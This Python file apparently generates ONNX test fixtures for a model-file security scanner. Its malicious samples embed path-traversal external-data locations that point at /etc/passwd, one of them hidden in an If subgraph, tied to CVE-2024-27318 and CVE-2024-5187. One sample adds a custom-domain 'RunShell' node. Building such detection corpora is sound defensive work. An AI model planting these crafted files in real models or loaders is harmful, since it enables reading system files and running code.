"""ONNX models."""

from __future__ import annotations

from pathlib import Path

from trainwarden.drill._scan_corpus._base import Builder, _Clean, _Mal, _write
from trainwarden.drill._scan_corpus._common import _onnx_graph


def _onnx_traversal(path: Path, c: Path) -> None:
    from onnx import TensorProto, helper

    t = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for k, v in (
        ("location", "../../../../../../../../etc/passwd"),
        ("offset", "0"),
        ("length", "16"),
    ):
        e = t.external_data.add()
        e.key = k
        e.value = v
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        [t],
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    _write(
        path,
        helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString(),
    )


def _onnx_custom_domain(path: Path, c: Path) -> None:
    from onnx import TensorProto, helper

    node = helper.make_node("RunShell", ["X"], ["Y"], domain="com.attacker.rce", cmd=f"touch {c}")
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1])],
    )
    model = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.attacker.rce", 1)],
    )
    _write(path, model.SerializeToString())


def _onnx_external_ref(location: str, subgraph: bool) -> Builder:
    def build(path: Path, c: Path) -> None:
        from onnx import TensorProto, helper

        t = helper.make_tensor("W", TensorProto.FLOAT, [4], [0.0, 0.0, 0.0, 0.0])
        t.ClearField("float_data")
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            e = t.external_data.add()
            e.key = k
            e.value = v
        x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])
        y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])
        if not subgraph:
            graph = helper.make_graph(
                [helper.make_node("Add", ["X", "W"], ["Y"])], "g", [x], [y], [t]
            )
        else:
            then_g = helper.make_graph(
                [helper.make_node("Identity", ["W"], ["T"])],
                "then",
                [],
                [helper.make_tensor_value_info("T", TensorProto.FLOAT, [4])],
                [t],
            )
            else_g = helper.make_graph(
                [helper.make_node("Identity", ["X"], ["E"])],
                "else",
                [],
                [helper.make_tensor_value_info("E", TensorProto.FLOAT, [4])],
            )
            cond = helper.make_tensor_value_info("C", TensorProto.BOOL, [])
            node = helper.make_node("If", ["C"], ["Y"], then_branch=then_g, else_branch=else_g)
            graph = helper.make_graph([node], "g", [cond, x], [y])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        _write(path, model.SerializeToString())

    return build


def _onnx_model(path: Path) -> None:
    import onnx

    model = _onnx_graph()
    onnx.checker.check_model(model)
    path.parent.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(path))


def malicious() -> list[_Mal]:
    """The malicious samples of this family."""
    return [
        _Mal(
            "onnx_external_data_path_traversal",
            ".onnx",
            "external_data location escapes the folder",
            "CVE-2024-27318 / CVE-2024-5187 (onnx path traversal)",
            _onnx_traversal,
            trigger=None,
            canary=False,
        ),
        _Mal(
            "onnx_custom_operator_domain",
            ".onnx",
            "node in a custom operator domain",
            "ONNX Runtime custom-op libraries run native code",
            _onnx_custom_domain,
            trigger=None,
            canary=False,
        ),
        _Mal(
            "onnx_external_data_absolute_path",
            ".onnx",
            "external_data location /etc/passwd",
            "CVE-2024-27318",
            _onnx_external_ref("/etc/passwd", False),
            trigger=None,
            canary=False,
        ),
        _Mal(
            "onnx_external_data_in_if_subgraph",
            ".onnx",
            "traversing external data in an If branch",
            "CVE-2024-5187 (subgraph initializers)",
            _onnx_external_ref("../../../etc/passwd", True),
            trigger=None,
            canary=False,
        ),
    ]


def clean() -> list[_Clean]:
    """The clean samples of this family (written by the real libraries)."""
    return [
        _Clean("onnx_model", ".onnx", "onnx.helper + onnx.save", _onnx_model),
    ]
